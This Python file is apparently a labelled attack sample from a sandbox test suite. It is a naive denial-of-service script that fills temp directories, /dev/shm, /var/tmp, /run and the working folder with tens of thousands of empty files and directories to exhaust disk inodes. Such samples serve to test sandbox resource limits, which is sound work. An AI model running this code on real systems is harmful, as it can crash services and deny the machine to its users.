"""Makes empty files in every folder that lets it, until there are no more to be had."""
# /// attack
# class = 75
# goal = "use up the files that the disk can hold"
# gain = "effect"
# outcome = ["failed", "memory", "crashed", "timeout"]
# naive = true
# ///

import contextlib
import os
import tempfile

for folder in ("@OUTSIDE@", tempfile.gettempdir(), "/dev/shm", "/var/tmp", "/run", "."):
    made = 0
    with contextlib.suppress(OSError):
        for number in range(500 if folder == "@OUTSIDE@" else 50_000):
            os.close(os.open(f"{folder}/file-{number}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
        for number in range(500 if folder == "@OUTSIDE@" else 50_000):
            os.mkdir(f"{folder}/folder-{number}")
    if made:
        break


def standardise(x):
    return x
